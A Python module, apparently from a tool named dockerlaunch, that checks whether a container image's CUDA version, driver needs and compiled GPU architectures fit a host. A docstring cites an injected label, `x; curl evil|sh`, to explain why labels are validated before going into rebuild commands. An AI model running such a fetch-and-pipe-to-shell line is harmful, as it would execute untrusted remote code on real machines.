"""What an image needs of a GPU host, typed, and the judgement of one against the other (`needs.runs_on(host)`).

An image says what it needs in three ways, best first: dockerlaunch's labels (gpu/labels.py; build writes them),
the record `dockerlaunch verify` keeps of its Image ID (each library's cubins and PTX, its runtime's CUDA; stored by
cache.py in this type's `to_record` form), and its environment (CUDA_VERSION, NVIDIA_REQUIRE_CUDA of nvidia/cuda
bases). The rules are gpu/cuda.py's, the same verify applies to an image's cubins."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass

from dockerlaunch import hints
from dockerlaunch.gpu import cuda, labels
from dockerlaunch.gpu.host import Gpu, GpuHost
from dockerlaunch.verdict import Finding, Verdict

# what each compiled package is called in an image's pins, for images built before the `compiled` label
COMPILED_PINS = (("transformer_engine", "transformer-engine-torch"), ("apex", "apex"), ("flash_attn", "flash-attn"))
RECORD_FORMAT = 2



_ARCH = re.compile(r"[0-9]{1,2}\.[0-9]{1,2}[a-z]?(\+PTX)?", re.ASCII)  # '9.0', '10.0a', '9.0+PTX'
_STACK_NAME = re.compile(r"[a-z0-9][a-z0-9._+-]{0,95}", re.ASCII)  # as Dockerfiles/stacks.yaml names them

@dataclass(frozen=True)
class DeviceCode:
    """One library's device code, as verify read it with cuobjdump."""

    library: str
    dist: str | None  # the distribution that installed it (nvidia-* wheels serve a range of GPUs on purpose)
    cubins: tuple[str, ...]  # sm_90, sm_90a, ...
    ptx: tuple[str, ...]  # compute_90, ...


@dataclass(frozen=True)
class CudaCompat:
    """cuda-compat in the image (/usr/local/cuda/compat/libcuda.so.<version>): forward compatibility, which lets a
    data-center GPU on an older driver branch run this image's newer CUDA (NVIDIA's CUDA Compatibility guide).
    `dockerlaunch verify` reads it from the file (its name; its `.note.cuda.fwd_compatibility` ELF note where it has
    one), doctor and the plan from the image's environment where there is no such record (compat_of_env)."""

    version: str  # the compat driver's version, from its file name ('580.65.06')
    branches: tuple[int, ...] = ()  # the older driver branches it serves (its ELF note; NVIDIA_REQUIRE_CUDA's
    # brand=tesla,driver>=N)
    path: str = "/usr/local/cuda/compat"
    cuda: str | None = None  # the CUDA it serves (its ELF note's "CUDA Version"), where read
    estimated: bool = False  # `version` is the driver its CUDA shipped with, not read from the file
    on_path: str = ""  # where the image itself puts the folder on the loader's path (then it is loaded on every host)

    def to_dict(self) -> dict:
        return {"version": self.version, "branches": list(self.branches), "path": self.path, "cuda": self.cuda,
                "estimated": self.estimated, "on_path": self.on_path}

    @classmethod
    def from_dict(cls, d: dict) -> CudaCompat:
        return cls(str(d["version"]), tuple(int(b) for b in d.get("branches") or ()), str(d.get("path") or cls.path),
                   str(d["cuda"]) if d.get("cuda") else None, bool(d.get("estimated")), str(d.get("on_path") or ""))


@dataclass(frozen=True)
class ImageNeeds:
    image: str | None = None
    cuda: str | None = None  # the CUDA major.minor its code is built for
    cuda_source: str = ""  # where that was read
    driver_min: str | None = None  # the least driver its CUDA major runs on (label driver-min; else cuda.DRIVER_MIN)
    toolkit_driver: str | None = None  # its toolkit's own driver (label driver-toolkit; else cuda.TOOLKIT_DRIVER)
    archs: tuple[str, ...] | None = None  # the cuda-archs label ('8.0', '9.0+PTX'); None: no label
    code: tuple[DeviceCode, ...] | None = None  # verify's reading of every library with device code
    compiled: tuple[str, ...] = ()  # the packages compiled for exactly `archs`
    stack: str | None = None
    compat: CudaCompat | None = None

    @classmethod
    def of_image(cls, image_labels: dict[str, str] | None, env: tuple[str, ...] | None = None,
                 record: ImageNeeds | None = None) -> ImageNeeds:
        """What doctor knows of an image on a host: its labels there, its environment, verify's record of it."""
        lb = image_labels or {}
        cuda_v, source = None, ""
        if lb.get(labels.CUDA):
            cuda_v, source = lb[labels.CUDA], f"label {labels.CUDA}"
        else:
            for e in env or ():
                m = re.match(r"^CUDA_VERSION=(\d+)\.(\d+)", e)
                if m:
                    cuda_v, source = f"{m.group(1)}.{m.group(2)}", "the image's CUDA_VERSION"
                    break
        if cuda_v is None and record is not None and record.cuda:
            cuda_v, source = record.cuda, "its CUDA runtime wheel (as verify recorded it)"
        label = lb.get(labels.CUDA_ARCHS)
        if labels.COMPILED in lb:
            compiled = tuple(n for n in lb[labels.COMPILED].split(",") if n)
        else:
            compiled = tuple(name for pin, name in COMPILED_PINS if lb.get(labels.pin(pin)))
        compat = record.compat if record is not None and record.compat is not None else compat_of_env(env)
        return cls(image=record.image if record else None, cuda=cuda_v, cuda_source=source,
                   driver_min=lb.get(labels.DRIVER_MIN) or None, toolkit_driver=lb.get(labels.DRIVER_TOOLKIT) or None,
                   archs=tuple(a for a in label.split(";") if a) if label else None,
                   code=record.code if record is not None else None, compiled=compiled, stack=lb.get(labels.STACK),
                   compat=compat)

    def runs_on(self, host: GpuHost, gpu_mode: str | None = None) -> list[Finding]:
        """The image against one host's driver and GPUs: the `driver` and `archs` findings. `gpu_mode`: how the job's
        containers reach the GPUs there (`devices` puts the host's driver libraries first on the loader's path, so
        an image's own compat folder on it is never loaded: no 803 from it)."""
        return [f for f in (self._driver(host, gpu_mode), self._archs(host)) if f is not None]

    # -- the driver ---------------------------------------------------------------------------------------------
    def _driver(self, host: GpuHost, gpu_mode: str | None = None) -> Finding | None:
        if host.driver is None:
            said = [e for e in host.errors if "--query-gpu" in e] or list(host.errors)
            return Finding("driver", Verdict.ERROR, "nvidia-smi did not tell the driver version: "
                           + ("; ".join(said) if said else "no answer") + " (is the driver loaded?)")
        runs = f" (CUDA {host.cuda})" if host.cuda else ""
        if host.vgpu_manager:
            return Finding("driver", Verdict.FAIL, f"driver {host.driver} is a vGPU host's (nvidia-smi says `CUDA "
                           "Version : Not Found`): CUDA runs in the VMs it serves, not in containers here; run the job "
                           "in a VM with a vGPU guest driver, or install the data-center driver")
        if self.cuda is None:
            return Finding("driver", Verdict.SKIP, f"driver {host.driver}{runs}; the image does not say which CUDA it "
                           f"needs (no {labels.CUDA} label or CUDA_VERSION; "
                           f"`{hints.dockerlaunch('verify', self.image or 'IMAGE', hint='needs.verify')}` here "
                           "records it)")
        problem = cuda.driver_problem(host.driver, self.cuda, need=self.driver_min, own=self.toolkit_driver,
                                      host_cuda=host.cuda)
        compat = self._compat(host, problem is not None and problem[0] == "FAIL", gpu_mode)
        if compat is not None:
            return Finding("driver", Verdict(compat[0]), f"driver {host.driver}{runs}: {compat[1]}")
        if problem is None:
            return Finding("driver", Verdict.PASS, f"driver {host.driver}{runs} runs the image's CUDA {self.cuda}")
        verdict, why = problem
        if verdict == "FAIL":
            runs_at_most = why.split(";")[0].removeprefix("runs CUDA <= ")
            return Finding("driver", Verdict.FAIL, f"driver {host.driver} {why}: upgrade the driver, or build a stack "
                           f"of CUDA <= {runs_at_most} ({hints.dockerlaunch('stacks', 'list', hint='needs.stacks')}"
                           + (f"; this image is {self.stack}" if self.stack else "") + ")")
        return Finding("driver", Verdict.WARN, f"driver {host.driver}{runs} {why}")

    def _compat(self, host: GpuHost, too_old: bool, gpu_mode: str | None = None) -> tuple[str, str] | None:
        """The image's cuda-compat where it is loaded over this host's driver (cuda.compat_problem says when: the
        driver too old for the image's CUDA, or the image naming the folder on its own loader path); None where it
        is not loaded, or loaded and harmless over a driver that runs the image anyway."""
        c = self.compat
        on_path = bool(c and c.on_path) and gpu_mode != "devices"
        if c is None or not (too_old or on_path):
            return None
        problem = cuda.compat_problem(c.version, c.branches, host.driver or "", [g.name for g in host.gpus],
                                      cuda=self.cuda, estimated=c.estimated, on_path=c.on_path and on_path)
        return problem if problem is not None and (too_old or problem[0] == "FAIL") else None

    # -- the architectures --------------------------------------------------------------------------------------
    def _archs(self, host: GpuHost) -> Finding | None:
        if not host.gpus:
            return Finding("archs", Verdict.ERROR, "not checked: nvidia-smi listed no GPU (the driver row says why)")
        unknown = [g for g in host.gpus if g.arch is None]
        if unknown:
            why = ("this driver has no compute_cap field" if "compute_cap" in host.unknown_fields
                   else "nvidia-smi did not tell it")
            return Finding("archs", Verdict.WARN, f"{gpus_named(unknown)} ({unknown[0].name}): compute capability "
                           f"unknown ({why}, and the model is not in NVIDIA's table): not checked; run `"
                           + hints.dockerlaunch("verify", self.image or "IMAGE", "--cuda-archs", "X.Y",
                                                hint="needs.verify-archs-unknown")
                           + "` with its compute capability in place of X.Y")
        by_cap: dict[str, list[Gpu]] = {}
        for g in host.gpus:
            by_cap.setdefault(g.arch or "", []).append(g)
        named = [g for g in host.gpus if g.arch_source != "nvidia-smi"]
        src = f" (compute capability from the model's name: {host.driver or 'the driver'} has no compute_cap)" \
            if named else ""
        if self.archs is None and self.code:
            return self._scanned_archs(by_cap, src)
        if self.archs is None:
            caps = ";".join(sorted(by_cap, key=cuda.version_tuple))
            return Finding("archs", Verdict.SKIP, f"the image has no {labels.CUDA_ARCHS} label (not built by "
                           "dockerlaunch): check its code against this host's GPUs with `"
                           + hints.dockerlaunch("verify", self.image or "IMAGE", "--cuda-archs", caps,
                                                hint="needs.verify-archs") + "`")
        cubins, ptx = cuda.archs_as_cubins(list(self.archs))
        label = ";".join(self.archs)
        lacking = {cap: gs for cap, gs in by_cap.items()
                   if not cuda.cubin_covers(cubins, cap) and not cuda.ptx_covers(ptx, cap)}
        if lacking:
            pkgs = ", ".join(self.compiled) or "its compiled packages"
            fix = self._archs_fix(lacking)
            gpus = "; ".join(f"{gpus_named(gs)} {gs[0].name} ({cap}, sm_{cap.replace('.', '')})"
                             for cap, gs in lacking.items())
            return Finding("archs", Verdict.FAIL, f"{gpus}: the image's {pkgs} hold code only for {label} "
                           f"({labels.CUDA_ARCHS}): no kernel would run there; {fix}{src}")
        caps = ", ".join(f"{cap} x{len(gs)}" for cap, gs in sorted(by_cap.items()))
        return Finding("archs", Verdict.PASS, f"the image's code ({label}) runs on this host's GPUs ({caps}){src}")

    def _archs_fix(self, lacking: dict[str, list[Gpu]]) -> str:
        """The rebuild to run. The image's labels are its author's words: a stack name or an arch list that is not
        of their shape is shown as data and never put in a command (a label `x; curl evil|sh` would run)."""
        archs = [*(self.archs or ()), *lacking]
        if not all(_ARCH.fullmatch(a) for a in archs):
            return f"rebuild it for compute capability {', '.join(sorted(lacking))} (its {labels.CUDA_ARCHS} " \
                   f"label, {json.dumps(';'.join(self.archs or ()))}, is not an arch list)"
        want = ";".join(sorted(set(archs), key=cuda.version_tuple))
        if self.stack and _STACK_NAME.fullmatch(self.stack):
            return hints.dockerlaunch("build", "--stack", self.stack, "--cuda-archs", want, hint="needs.rebuild")
        said = f" (its {labels.STACK} label, {json.dumps(self.stack)}, is not a stack name)" if self.stack else ""
        return (hints.dockerlaunch("build", "--stack", "NAME", "--cuda-archs", want, hint="needs.rebuild-unnamed")
                + f" with the image's stack in place of NAME{said}")

    def _scanned_archs(self, by_cap: dict[str, list[Gpu]], src: str) -> Finding:
        """The same rule per library, from verify's record: a library of the image's own (not an nvidia-* wheel,
        which NVIDIA ships for a range of GPUs) with neither a cubin nor PTX for a host GPU fails."""
        own = [c for c in self.code or () if not (c.dist or "").startswith("nvidia-")]
        where = f"from verify's record of {self.image or 'the image'}"
        lacking: dict[str, list[str]] = {}
        for cap in sorted(by_cap, key=cuda.version_tuple):
            for c in sorted(own, key=lambda c: c.library):
                if not cuda.cubin_covers(list(c.cubins), cap) and not cuda.ptx_covers(list(c.ptx), cap):
                    lacking.setdefault(cap, []).append(f"{c.library} ({c.dist or '?'}: {', '.join(c.cubins)})")
        caps = sorted(by_cap, key=cuda.version_tuple)
        if lacking:
            return Finding("archs", Verdict.FAIL, "; ".join(
                f"GPUs of compute capability {cap}: no cubin or PTX in {', '.join(libs[:3])}"
                + (f" (+{len(libs) - 3} more)" if len(libs) > 3 else "") for cap, libs in lacking.items())
                + f" ({where}): rebuild them for {';'.join(caps)}{src}")
        return Finding("archs", Verdict.PASS, f"{len(own)} libraries with device code run on this host's GPUs "
                       f"({', '.join(caps)}; {where}){src}")

    # -- verify's record ----------------------------------------------------------------------------------------
    def to_record(self) -> dict:
        return {"format": RECORD_FORMAT, "image": self.image, "cuda": self.cuda,
                "code": [{"library": c.library, "dist": c.dist, "elf": list(c.cubins), "ptx": list(c.ptx)}
                         for c in self.code or ()],
                "compat": None if self.compat is None else self.compat.to_dict()}

    @classmethod
    def from_record(cls, record: dict | None) -> ImageNeeds | None:
        """verify's record (this form, or the first one: `cubins` by library); None for anything else."""
        if not isinstance(record, dict):
            return None
        try:
            if record.get("format") == RECORD_FORMAT:
                code = tuple(DeviceCode(str(c["library"]), c.get("dist"), tuple(c.get("elf") or ()),
                                        tuple(c.get("ptx") or ())) for c in record.get("code") or ())
                cp = record.get("compat")
                compat = CudaCompat.from_dict(cp) if cp else None
            else:
                code = tuple(DeviceCode(str(lib), c.get("dist"), tuple(c.get("elf") or ()), tuple(c.get("ptx") or ()))
                             for lib, c in (record.get("cubins") or {}).items())
                compat = None
            return cls(image=record.get("image"), cuda=record.get("cuda"), code=code, compat=compat)
        except (KeyError, TypeError, ValueError, AttributeError):
            return None


def require_branches(require: str | None) -> tuple[int, ...]:
    """The driver branches NVIDIA_REQUIRE_CUDA lets forward compatibility serve: its `brand=tesla,driver>=N`
    clauses ('cuda>=13.0 brand=tesla,driver>=535,driver<536 ...' -> (535,))."""
    return tuple(sorted({int(b) for b in re.findall(r"brand=tesla,driver>=(\d+)", require or "")}))


def compat_on_path(folder: str, ld_library_path: str | None) -> str:
    """'LD_LIBRARY_PATH' where the image's own LD_LIBRARY_PATH names its compat folder (or /usr/local/cuda*/compat),
    else ''."""
    for p in (ld_library_path or "").split(":"):
        p = p.rstrip("/")
        if p and (p == folder.rstrip("/") or re.fullmatch(r"/usr/local/cuda(-[\d.]+)?/compat", p)):
            return "LD_LIBRARY_PATH"
    return ""


def compat_of_env(env: tuple[str, ...] | None) -> CudaCompat | None:
    """nvidia/cuda images ship cuda-compat and say which branches it serves in NVIDIA_REQUIRE_CUDA (`cuda>=12.4
    brand=tesla,driver>=470,driver<471 ...`); without verify's reading of the file, its version is estimated
    (`estimated`): the driver its CUDA shipped with (TOOLKIT_DRIVER), else that CUDA's branch (BRANCH_CUDA), else
    the CUDA major's minimum (DRIVER_MIN)."""
    values = dict(e.split("=", 1) for e in env or () if "=" in e)
    require, version = values.get("NVIDIA_REQUIRE_CUDA"), values.get("CUDA_VERSION")
    branches = require_branches(require)
    v = cuda.version_tuple(version)
    if not branches or len(v) < 2:
        return None
    mm = f"{v[0]}.{v[1]}"
    own = (cuda.TOOLKIT_DRIVER.get(mm) or next((str(b) for b, c in sorted(cuda.BRANCH_CUDA) if c == mm), None)
           or cuda.DRIVER_MIN.get(str(v[0])))
    if not own:
        return None
    return CudaCompat(version=own, branches=branches, cuda=mm, estimated=True,
                      on_path=compat_on_path(CudaCompat.path, values.get("LD_LIBRARY_PATH")))


def compat_to_load(env: tuple[str, ...] | None, driver: str | None) -> tuple[CudaCompat, str] | None:
    """(the image's cuda-compat, its CUDA) where forward compatibility is what runs the image on a host of `driver`:
    the driver is older than the image's CUDA needs (the image's CUDA_VERSION, cuda.driver_problem) and the compat
    library newer than the driver (as doctor's forward-compatibility WARN has it; the container toolkit's
    enable-cuda-compat hook compares branches). The plan then puts its folder first on LD_LIBRARY_PATH in device mode;
    None leaves the host's libcuda first."""
    needs = ImageNeeds.of_image(None, env)
    c = needs.compat
    have = cuda.version_tuple(driver)
    if c is None or needs.cuda is None or not have:
        return None
    problem = cuda.driver_problem(driver or "", needs.cuda)
    if problem is None or problem[0] != "FAIL" or cuda.version_tuple(c.version) <= have:
        return None
    return c, needs.cuda


def gpus_named(gpus: list[Gpu]) -> str:
    idx = ",".join(str(g.index) for g in gpus)
    return f"GPU {idx}" if len(gpus) == 1 else f"GPUs {idx}"
